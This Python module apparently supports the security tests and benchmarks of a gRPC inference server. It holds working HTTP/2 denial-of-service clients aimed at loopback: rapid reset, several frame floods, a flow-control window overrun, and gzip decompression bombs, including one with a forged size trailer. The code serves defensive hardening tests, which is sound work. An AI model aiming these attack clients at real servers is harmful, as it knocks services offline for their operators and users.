"""Raw h2c attack clients against a gRPC server on loopback, shared by the attack tests and
benchmarks/attack_bench.py.

Each attack in ATTACKS builds its next batch of frames for an Attacker (one connection that never
reads); `attack_loop` sends batch after batch, reconnecting whenever the server ends the connection.
"""

from __future__ import annotations

import socket
import threading
import time
import zlib
from collections.abc import Callable, Sequence
from typing import Protocol

import hpack
import numpy as np
from tritonclient.grpc import service_pb2 as pb

from naiad.frontends.grpc import h2_wire as w

INFER = "/inference.GRPCInferenceService/ModelInfer"
LIVE = "/inference.GRPCInferenceService/ServerLive"


class StopFlag(Protocol):
    """threading.Event or multiprocessing.Event."""

    def is_set(self) -> bool: ...


def message(request: object) -> bytes:
    """A protobuf message as one uncompressed gRPC length-prefixed message."""
    raw = request.SerializeToString()  # type: ignore[attr-defined]
    return b"\x00" + len(raw).to_bytes(4, "big") + raw


def infer_body(model: str = "add_sub", datatype: str = "INT32", shape: Sequence[int] = (1, 4)) -> bytes:
    """A valid ModelInfer message for a model with inputs INPUT0 and INPUT1 (all ones)."""
    dtype = {"INT32": np.int32, "FP32": np.float32}[datatype]
    request = pb.ModelInferRequest(model_name=model)
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype=datatype, shape=list(shape))
        request.raw_input_contents.append(np.ones(shape, dtype).tobytes())
    return message(request)


class Attacker:
    """One raw h2c connection that never reads; `send` reports False once the server closed it."""

    def __init__(self, port: int, stop: StopFlag, infer: bytes | None = None) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=0.2)
        self.stop = stop
        self.infer = infer if infer is not None else infer_body()  # what rapid_reset sends and cancels
        self.encoder = hpack.Encoder()
        self.sid = 1
        self.send(w.PREFACE + w.settings_frame({}))

    def headers(self, path: str, end: bool = False, extra: tuple = ()) -> bytes:
        block = self.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
                                     ("content-type", "application/grpc"), ("te", "trailers"), *extra])
        return w.frame(w.HEADERS, w.END_HEADERS | (w.END_STREAM if end else 0), self.sid, block)

    def send(self, data: bytes) -> bool:
        """All of `data`, waiting while the server does not read us (back-pressure), until told to stop."""
        view = memoryview(data)
        while view:
            try:
                view = view[self.sock.send(view):]
            except TimeoutError:
                if self.stop.is_set():
                    return False
            except OSError:
                return False
        return True

    def close(self) -> None:
        self.sock.close()


def rapid_reset(a: Attacker) -> bytes:
    out = []
    for _ in range(50):
        out += [a.headers(INFER), w.frame(w.DATA, w.END_STREAM, a.sid, a.infer), w.rst_stream(a.sid, w.CANCEL)]
        a.sid += 2
    return b"".join(out)


def _repeat(frame: bytes) -> Callable[[Attacker], bytes]:
    return lambda a: frame * 500


def empty_continuation(a: Attacker) -> bytes:
    if a.sid == 1:
        a.sid = 3
        return w.frame(w.HEADERS, 0, 1, a.encoder.encode([(":method", "POST")])) + w.frame(w.CONTINUATION, 0, 1) * 499
    return w.frame(w.CONTINUATION, 0, 1) * 500


def empty_data(a: Attacker) -> bytes:
    if a.sid == 1:
        a.sid = 3
        return a.headers(INFER) + w.frame(w.DATA, 0, 1) * 499
    return w.frame(w.DATA, 0, 1) * 500


def unread_responses(a: Attacker) -> bytes:
    out = []
    body = message(pb.ServerLiveRequest())
    for _ in range(50):
        out += [a.headers(LIVE), w.frame(w.DATA, w.END_STREAM, a.sid, body)]
        a.sid += 2
    return b"".join(out)


def window_overrun(a: Attacker) -> bytes:
    """A stream declaring a 64 MiB message, then 2 MiB of it without waiting for any WINDOW_UPDATE."""
    chunk = w.frame(w.DATA, 0, a.sid, b"\x00" * w.DEFAULT_FRAME_SIZE)
    out = a.headers(INFER) + w.frame(w.DATA, 0, a.sid, b"\x00" + (64 << 20).to_bytes(4, "big")) + chunk * 128
    a.sid += 2
    return out


_BOMB: list[bytes] = []


def _bomb() -> bytes:
    """A 256 KiB gzip message that inflates to 256 MiB (past the 64 MiB default of --grpc-max-decompressed-size)."""
    if not _BOMB:
        z = zlib.compressobj(9, zlib.DEFLATED, 31)
        zeros = bytes(1 << 20)
        _BOMB.append(b"".join(z.compress(zeros) for _ in range(256)) + z.flush())
    return _BOMB[0]


def gzip_bomb(a: Attacker) -> bytes:
    return _compressed_call(a, _bomb())


def gzip_bomb_lying_trailer(a: Attacker) -> bytes:
    """The same bomb whose gzip trailer claims 1000 bytes: only inflating it shows its size."""
    return _compressed_call(a, _bomb()[:-4] + (1000).to_bytes(4, "little"))


def _compressed_call(a: Attacker, bomb: bytes) -> bytes:
    out = a.headers(INFER, extra=(("grpc-encoding", "gzip"),))
    out += w.frame(w.DATA, 0, a.sid, b"\x01" + len(bomb).to_bytes(4, "big"))
    for i in range(0, len(bomb), w.DEFAULT_FRAME_SIZE):
        out += w.frame(w.DATA, 0, a.sid, bomb[i:i + w.DEFAULT_FRAME_SIZE])
    out += w.frame(w.DATA, w.END_STREAM, a.sid)
    a.sid += 2
    return out


ATTACKS: dict[str, Callable[[Attacker], bytes]] = {
    "rapid_reset": rapid_reset,
    "priority_flood": _repeat(w.frame(w.PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10")),
    "unknown_frame_flood": _repeat(w.frame(0x20, 0, 0, b"x")),
    "ping_flood": _repeat(w.frame(w.PING, 0, 0, b"12345678")),
    "settings_flood": _repeat(w.settings_frame({w.S_INITIAL_WINDOW_SIZE: 65535})),
    "window_update_flood": _repeat(w.window_update(0, 1)),
    "empty_continuation_flood": empty_continuation,
    "empty_data_flood": empty_data,
    "unread_responses": unread_responses,
    "window_overrun": window_overrun,
    "gzip_bomb": gzip_bomb,
    "gzip_bomb_lying_trailer": gzip_bomb_lying_trailer,
}


def new_stats() -> dict[str, int]:
    return {"connections": 0, "connect_failures": 0, "batches": 0}


def attack_loop(port: int, make: Callable[[Attacker], bytes], stop: StopFlag, stats: dict[str, int],
                infer: bytes | None = None) -> None:
    """Attack from one connection at a time until `stop`; reconnect whenever the server ends it.

    `stats` counts connections made, connection attempts refused and batches sent whole."""
    while not stop.is_set():
        try:
            attacker = Attacker(port, stop, infer)
        except OSError:
            stats["connect_failures"] += 1
            time.sleep(0.05)  # paces the attack's reconnection attempts
            continue
        stats["connections"] += 1
        try:
            while not stop.is_set() and attacker.send(make(attacker)):
                stats["batches"] += 1
        finally:
            attacker.close()


def attack_in_thread(port: int, kind: str, stop: threading.Event, stats: dict[str, int]) -> threading.Thread:
    """attack_loop with ATTACKS[kind] on a started daemon thread."""
    thread = threading.Thread(target=attack_loop, args=(port, ATTACKS[kind], stop, stats), daemon=True)
    thread.start()
    return thread
